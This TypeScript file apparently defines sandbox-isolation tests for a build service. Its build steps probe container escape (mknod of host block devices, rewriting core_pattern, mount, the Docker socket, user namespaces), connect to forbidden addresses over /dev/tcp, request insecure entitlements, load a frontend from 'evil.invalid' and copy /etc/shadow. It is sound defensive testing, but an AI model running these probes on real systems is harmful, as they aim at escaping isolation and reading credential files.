import { createPlainLog } from "../../core/run/plain-log.ts";
import { layout } from "../../setup/seat-host/layout.ts";
import type { Attack } from "../attack.ts";
import { say, sh } from "../ground.ts";
import { judgeClaims, judgeLines } from "../judge.ts";
import { addressOf } from "./network.ts";
import { build, step, told } from "./run-build.ts";
import { TRY } from "./scripts.ts";

const FROM = "a build step";

export const buildStep: readonly Attack[] = [
  {
    id: "build/escape",
    title: "Leave the build: devices, kernel, files and the engine",
    from: FROM,
    expects: "A step has less than the seat's root.",
    run: async (ground, signal) => {
      const { outcome, log } = await build(
        await ground.attacker(),
        signal,
        step(`${TRY}
        {
        works "mknod of a pipe" mknod /own p
        works "a file of the step's own" sh -c 'cat /proc/sys/kernel/core_pattern > /own-file && test -s /own-file'
        tail -n +3 /proc/partitions | while read -r major minor _ name; do try "mknod of $name" sh -c "mknod /d b $major $minor && head -c 1 /d"; done
        try "core_pattern" sh -c 'cat /proc/sys/kernel/core_pattern > /c && cat /c > /proc/sys/kernel/core_pattern'
        try "mount" mount -t tmpfs tmpfs /mnt
        try "the engine's socket" test -S /run/docker.sock
        try "kernel log" dmesg
        try "a new user namespace that mounts" unshare -Urm mount -t sysfs sysfs /mnt
        awk '{ print ($2 == 0 ? "through: " : "held: ") "uid map " $1 " " $2 " " $3 }' /proc/self/uid_map
        } > /said 2>&1; sed 's/^/said /' /said`),
      );
      const said = createPlainLog()(log)
        .split("\n")
        .flatMap((line) => /said ((?:held|through|works|broken): .*)/.exec(line)?.[1] ?? []);
      return judgeLines(said.join("\n"), {
        [`the build ended as ${told(outcome)}`]: outcome.status === "built",
      });
    },
  },
  {
    id: "build/network",
    title: "Reach the seat host, another seat and the way out from a step",
    from: FROM,
    expects: "A step reaches the proxy and the package index and nothing else.",
    run: async (ground, signal) => {
      const [attacker, neighbour] = await Promise.all([ground.attacker(), ground.neighbour()]);
      const there = await addressOf(neighbour);
      const bridge = layout.seatBridgeAddress.split("/")[0] ?? "";
      const listener = await neighbour.dial([
        "socat",
        "-u",
        "TCP-LISTEN:7091,reuseaddr,fork",
        "OPEN:/dev/null",
      ]);
      const host = await ground.machine?.listen(bridge);
      try {
        await say(
          neighbour,
          `for i in 1 2 3 4 5 6; do socat -u OPEN:/dev/null TCP:${there}:7091 && exit 0; sleep 0.5; done; exit 1`,
        );
        const targets = [
          `neighbour ${there} 7091`,
          `seat-host-api ${bridge} ${layout.apiPort}`,
          ...(host === undefined ? [] : [`seat-host ${bridge} ${host.port}`]),
          `services-other-port ${layout.servicesAddress} 8080`,
        ];
        const lines = targets.map((one) => {
          const [what = "", address = "", port = ""] = one.split(" ");
          return `try ${what} bash -c 'exec 3<>/dev/tcp/${address}/${port}'`;
        });
        const { log } = await build(
          attacker,
          signal,
          step(
            `${TRY}\n{ bash -c 'exec 3<>/dev/tcp/${layout.servicesAddress}/${layout.proxyPort}' && echo "control ok"\n${lines.join("\n")}\n} > /said 2>&1; sed 's/^/said /' /said # ${String(Date.now())}`,
          ),
          { seconds: 75 },
        );
        const plain = createPlainLog()(log);
        if (!plain.includes("said control ok"))
          throw new Error(`the step does not reach the proxy: ${plain.slice(-200)}`);
        const said = plain.split("\n").flatMap((line) => /said ((?:held|through): .*)/.exec(line)?.[1] ?? []);
        return judgeLines(said.join("\n"), { "the step reaches the proxy": true });
      } finally {
        listener.destroy();
        await host?.close();
      }
    },
  },
  {
    id: "build/entitlements",
    title: "Ask for an insecure step, the host's network, or another frontend",
    from: FROM,
    expects: "Each is refused before anything runs.",
    run: async (ground, signal) => {
      const seat = await ground.attacker();
      const claims: Record<string, boolean> = {};
      for (const [what, dockerfile] of Object.entries({
        "RUN --security=insecure": step("echo ran", "--security=insecure"),
        "RUN --network=host": step("echo ran", "--network=host"),
        "a frontend from elsewhere": `# syntax=evil.invalid/frontend:1\n${step("echo ran")}`,
        "a file above the context": "FROM debian:bookworm-slim\nCOPY ../../etc/shadow /s\n",
        "a mount of the host": step("test -e /h/run && echo ran", "--mount=type=bind,from=/,target=/h"),
      })) {
        const { outcome } = await build(seat, signal, dockerfile, { seconds: 30 });
        claims[`${what}: ${told(outcome)}`] = outcome.status === "failed";
      }
      const plain = await build(seat, signal, step("echo ran"), { seconds: 30 });
      return judgeClaims(claims, {
        [`a plain step: ${told(plain.outcome)}`]: plain.outcome.status === "built",
      });
    },
  },
  {
    id: "build/sleep",
    title: "A step that sleeps for ever",
    from: FROM,
    expects: "The build ends at its time limit, and the step with it.",
    seconds: 120,
    run: async (ground, signal) => {
      const seat = await ground.attacker();
      const building = build(seat, signal, step("trap '' TERM INT; sleep 987654"), { seconds: 30 });
      building.catch(() => undefined);
      const began = await sh(
        seat,
        "for i in $(seq 28); do pgrep -f 'sleep 98765[4]' > /dev/null && exit 0; sleep 1; done; exit 1",
      );
      const { outcome, ms } = await building;
      const left = await sh(
        seat,
        "for i in 1 2 3 4 5 6 7 8; do pgrep -f 'sleep 98765[4]' > /dev/null || exit 0; sleep 1; done; exit 1",
      );
      return judgeClaims(
        {
          [`${told(outcome)} after ${ms} ms`]: outcome.status === "limit" && ms < 60_000,
          "the step's process is gone": left.exitCode === 0,
        },
        { "the step's process was seen": began.exitCode === 0 },
      );
    },
  },
];
